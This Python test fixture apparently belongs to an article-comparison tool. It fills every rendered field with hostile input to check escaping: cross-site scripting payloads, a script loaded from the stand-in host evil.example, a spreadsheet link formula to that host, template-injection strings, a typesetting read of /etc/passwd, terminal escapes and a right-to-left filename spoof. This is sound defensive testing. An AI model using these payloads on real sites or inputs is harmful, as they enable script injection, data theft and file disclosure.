"""Text that tries to act instead of being read, and stories that hold it in every place."""

from __future__ import annotations

from dataclasses import replace

from samestory.model import (
    Comparison,
    Document,
    Evidence,
    Finding,
    Generator,
    Reading,
    Reason,
    Settings,
    SkippedInput,
    Source,
)
from samestory.pipeline import compare
from tests.renderers.comparison_factory import (
    make_comparison,
    make_document,
    make_link,
    make_nearest,
    make_passage,
)

RUN = "window.hacked=1"
"""What scripts in these texts would do; browser tests look whether it was done."""

ELSEWHERE = "https://evil.example"

ACTIVE = {
    "script": f"<script>{RUN}</script><script src={ELSEWHERE}/x.js></script>",
    "end of data": f"</style></title></svg></textarea></script><script>{RUN}</script>",
    "attribute": f'" onmouseover="{RUN}" \' onfocus=\'{RUN}\' autofocus tabindex=0 x="',
    "unquoted": f"x onmouseover={RUN} style=position:fixed",
    "image": f"<img src=x onerror={RUN}><img src={ELSEWHERE}/pixel.png>",
    "drawing": f"<svg onload={RUN}><script>{RUN}</script><use href={ELSEWHERE}/a#b></use></svg>",
    "script address": f"<a href=javascript:{RUN}>javascript:{RUN}</a>",
    "data address": f"data:text/html,<script>{RUN}</script>",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data=x></object>',
    "style": (
        f"<style>@import '{ELSEWHERE}/x.css'; body{{color:#010203!important}}</style>"
        "<p style='position:fixed;inset:0;background:red'>over all</p>"
    ),
    "style value": f"red;}} body{{color:#010203;background:url({ELSEWHERE}/x)}} /*",
    "form": f"<form action={ELSEWHERE}><button formaction=javascript:{RUN} autofocus>Go",
}
"""By what they try: a browser would act on each if it stood in a page as it is."""

FOREIGN = {
    "template": "{{ 7*7 }}{% include 'x' %}{# comment #}${7*7}<%= 7*7 %>#{7*7}[[7*7]]",
    "entities": "&lt;b&gt; &amp; &#60;script&#62; &nbsp &quot;",
    "comment": "<!-- --><![CDATA[ ]]><?php ?>--!>",
    "format": "{} {0} {name!r:>{width}} %s %(x)s \\n $HOME `ls`",
    "formula": f'=HYPERLINK("{ELSEWHERE}","click")',
    "markdown": f"[a](javascript:{RUN}) ![b]({ELSEWHERE}/x.png) | c | ***",
    "typesetting": '#import "x.typ": y; $ x $ #read("/etc/passwd") \\input{x}',
    "control": "a\x00b\x1b[31mc\x08d \x1b]0;title\x07 e\x85f\u2028g",
}
"""What templates, spreadsheets, terminals and other formats would act on."""

UNUSUAL = {
    "direction": "invoice\u202egnp.exe\u202c \u2066isolate \u2067\u2068 \u200f\u200e\u061c end",
    "zero width": "ze\u200bro\u200c wi\u200ddth\ufeff jo\u2060iner so\xadft hy\u00adphen",
    "long word": "w" * 10_000,
    "long invisible word": "\u200b".join("x" * 5_000),
    "stacked marks": "Z" + "\u0301\u0323\u0330" * 300 + "algo",
    "emoji": "👩‍👩‍👧‍👦 👍🏽 🏳️‍🌈 🇺🇦 ❤️ 1️⃣ 🧑🏿‍🚀 \U000e0067",
    "right to left": "قال الوزير إن 14 شخصا أصيبوا (بينهم طفلان). אמר השר: „14 נפגעו”.",
    "without spaces": "部長は月曜日に14人が負傷したと述べた。" * 12,
    "thai": "รัฐมนตรีกล่าวว่ามีผู้บาดเจ็บสิบสี่คนเมื่อวันจันทร์ที่ผ่านมา" * 6,
    "no characters": "a\ufffeb\uffffc \ue000",
}
"""What breaks layouts and sorts of text that no one thought of."""

HOSTILE = ACTIVE | FOREIGN | UNUSUAL

ADDRESSES = (
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'https://x.example/" onmouseover="{RUN}',
    "https://x.example/><script>",
)
"""Addresses of articles, in turn."""


def hostile_comparison(text: str) -> Comparison:
    """Return a comparison with the text in every field that comes from outside."""
    documents = {
        letter: replace(
            make_document(letter, text, [text, f"{text} again"], headline=text),
            author=text,
            published=text,
            url=text,
            language=text,
            label=text,
            warnings=(text,),
            source=Source(text, text, text),
        )
        for letter in ("A", "B")
    }
    evidence = Evidence("A", 1, 0, len(text), text)
    both = make_passage(documents, 1, {"A": [1], "B": [1]}, mode="differences")
    alone = replace(
        make_passage(documents, 2, {"A": [2]}), nearest=(make_nearest(("A", 2), ("B", 2), 0.1),)
    )
    rest = make_passage(documents, 3, {"B": [2]})
    kinds = ("only in one outlet", "word-for-word reuse", "order", text)
    return replace(
        make_comparison(
            list(documents.values()), [replace(both, measures={text: 0.5}), alone, rest]
        ),
        title=text,
        date=text,
        fingerprint=text,
        schema_version=text,
        generator=Generator(text, text, {text: text}),
        settings=Settings(title=text, date=text),
        links=(make_link(("A", 1), ("B", 1), 0.9, Reason(text, text, 1.0, (text,))),),
        findings=tuple(
            Finding(kind, both.id, text, text, (Reading(text, ("A", "B")),), (evidence,))
            for kind in kinds
        ),
        skipped=(SkippedInput(text, text),),
    )


def hostile_story() -> Comparison:
    """Return a real comparison of three articles, every paragraph of which is a hostile text."""
    texts = list(HOSTILE.values())
    return compare(
        [_article(number, texts) for number in range(3)],
        Settings(title=ACTIVE["script"], date="2026-01-01"),
        skipped=[SkippedInput(f"{ACTIVE['image']}.txt", ACTIVE["script"])],
    )


def _article(number: int, texts: list[str]) -> Document:
    """Return an article with a hostile outlet, headline, author, address, date and file name."""
    turned = [*texts[number:], *texts[:number]]
    own = [f"{text} The ferry {text[:200]} struck a barge in case {number}." for text in turned]
    outlet = f"{texts[number]} {number}"
    document = make_document("ABC"[number], outlet, own, headline=texts[number + 3])
    return replace(
        document,
        author=texts[number + 5],
        url=ADDRESSES[number],
        published=f"2026-01-01T08:00:00Z{texts[number + 2]}",
        warnings=(texts[number + 1],),
        source=Source(f"{texts[number + 4]}.txt", document.source.sha256, texts[number]),
    )
